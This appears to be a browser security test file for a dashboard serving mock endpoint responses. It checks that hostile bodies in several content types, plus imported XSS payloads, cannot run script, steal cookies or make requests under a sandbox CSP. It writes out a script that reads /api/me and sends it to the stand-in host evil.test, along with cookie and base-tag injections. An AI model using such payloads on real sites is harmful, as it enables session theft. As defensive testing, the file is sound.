/* Hostile bodies as answers on purpose, opened in the browser of somebody who is signed in at the same origin. */
import { afterAll, beforeAll, describe, expect, setDefaultTimeout, test } from 'bun:test';
import type { Page, Response } from 'playwright-core';
import { isProof } from '../proofs.ts';
import { browserTitle, hasNoBrowser } from './chromium.ts';
import { type Dashboard, openDashboard, shownAddress } from './dashboard.ts';
import { expectEventually } from './expect-eventually.ts';
import { xssPayloads } from './xss.ts';

setDefaultTimeout(180_000);

/** One payload of five; a proof opens all. */
const payloads = xssPayloads.filter((_, at) => isProof || at % 5 === 0);

/** Reads the session, and would say so. */
const script =
  'document.cookie="stolen=1";fetch("/api/me").then(r=>r.text()).then(t=>new Image().src="http://evil.test/?"+t);alert(document.cookie)';
const documents: [type: string, body: string][] = [
  [
    'text/html',
    `<!doctype html><script>${script}</script><img src="/favicon.svg"><link rel=stylesheet href=/assets/x.css>`,
  ],
  ['image/svg+xml', `<svg xmlns="http://www.w3.org/2000/svg" onload='${script}'><script>${script}</script></svg>`],
  ['application/xhtml+xml', `<html xmlns="http://www.w3.org/1999/xhtml"><script>${script}</script></html>`],
  ['text/xml', `<?xml version="1.0"?><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>${script}</h:script></x>`],
  [
    'text/html',
    '<meta http-equiv="set-cookie" content="stolen=1"><base href="http://evil.test/"><form id=f action=x></form>',
  ],
  ['text/html', '<iframe src="/app"></iframe><object data="/app"></object><embed src="/app">'],
  ['text/javascript', `self.addEventListener("fetch",()=>{});${script}`],
  ['', `<script>${script}</script>`],
];

describe.skipIf(hasNoBrowser)(browserTitle('answers on purpose'), () => {
  let dashboard: Dashboard;
  let page: Page;
  let address: string;
  let id: string;

  beforeAll(async () => {
    dashboard = await openDashboard();
    page = await dashboard.open();
    await dashboard.setUp(page);
    address = await shownAddress(page);
    id = /\/endpoints\/(ep_\w+)/.exec(page.url())?.[1] ?? '';
  });
  afterAll(() => dashboard?.close());

  test('no dialog, no cookie, no request', async () => {
    const context = page.context();
    const cookies = JSON.stringify(await context.cookies());
    const victim = await context.newPage();
    const problems: string[] = [];
    let expected = '';
    victim.on('dialog', dialog => {
      problems.push(`dialog: ${dialog.message()}`);
      void dialog.dismiss();
    });
    // The browser announces requests that the policy then stops.
    victim.on('response', response => {
      if (response.url() !== expected) problems.push(`request: ${response.url()}`);
    });
    victim.on('requestfailed', request => {
      const why = request.failure()?.errorText;
      if (why !== 'csp') problems.push(`request: ${request.url()} (${why})`);
    });
    const bodies: [string, string][] = [
      ...documents,
      ...payloads.map((text, at): [string, string] => [
        at % 2 ? 'text/html' : 'text/html; charset=utf-8',
        `<!doctype html>${text}`,
      ]),
    ];
    let scripts = 0;
    for (const [at, [type, body]] of bodies.entries()) {
      const headers = type === '' ? [] : [['Content-Type', type]];
      // Half of them arrive by a placeholder.
      const isReflected = at % 2 === 1 && at >= documents.length;
      const rules = [{ answer: { headers, body: isReflected ? '{{query.x}}' : body } }];
      const { status } = await setRules(page, id, rules);
      expect(status).toBe(200);
      // As the browser writes it.
      expected = new URL(isReflected ? `${address}?x=${encodeURIComponent(body)}` : address).href;
      const response = (await victim.goto(expected, { waitUntil: 'load' }).catch(() => null)) as Response | null;
      const text = await response?.text().catch(() => '');
      if (text?.includes('alert')) scripts++;
      expect(response?.headers()['content-security-policy']).toBe("sandbox; default-src 'none'");
      // What a script of the page has asked for comes before the answer of this question.
      await victim.evaluate(() => undefined);
    }
    expect(scripts).toBeGreaterThan(payloads.length / 4);
    expect(problems).toEqual([]);
    expect(JSON.stringify(await context.cookies())).toBe(cookies);
    await victim.close();
  });

  test('a script from an answer cannot be a worker or a script of the dashboard’s origin', async () => {
    await setRules(page, id, [
      { answer: { headers: [['Content-Type', 'text/javascript']], body: 'globalThis.stolen = 1' } },
    ]);
    const registered = await page.evaluate(async url => {
      try {
        await navigator.serviceWorker.register(url, { scope: url });
        return 'registered';
      } catch (error) {
        return (error as Error).name;
      }
    }, new URL(address).pathname);
    expect(registered).not.toBe('registered');
  });

  test.each([
    ['/app', 'Settings'],
    ['/docs', '← Dashboard'],
  ])('a script from an answer does not run on %s, not even with a tag in the page', async (path, link) => {
    await setRules(page, id, [
      { answer: { headers: [['Content-Type', 'text/javascript']], body: 'globalThis.stolen = 1' } },
    ]);
    const victim = await page.context().newPage();
    await victim.route(`**${path}`, async route => {
      const response = await route.fetch();
      const body = (await response.text()).replace('</head>', `<script src="${address}"></script></head>`);
      await route.fulfill({ response, body });
    });
    dashboard.problems.violations.length = 0;
    await victim.goto(dashboard.origin + path);
    await victim.getByRole('link', { name: link }).first().waitFor();
    await expectEventually(async () => dashboard.problems.violations).toContain(`script-src-elem ${address}`);
    const imported = (url: string) =>
      import(url).then(
        () => 'ran',
        () => 'blocked',
      );
    expect(await victim.evaluate(imported, address)).toBe('blocked');
    expect(await victim.evaluate(() => Reflect.has(globalThis, 'stolen'))).toBe(false);
    await victim.close();
  });
});

/** As the signed-in user. */
const setRules = (page: Page, id: string, rules: unknown): Promise<{ status: number }> =>
  page.evaluate(
    async ([endpoint, body]) => {
      const headers = { 'content-type': 'application/json' };
      const { status } = await fetch(`/api/endpoints/${endpoint}/answers`, { method: 'PUT', headers, body });
      return { status };
    },
    [id, JSON.stringify({ rules })] as const,
  );
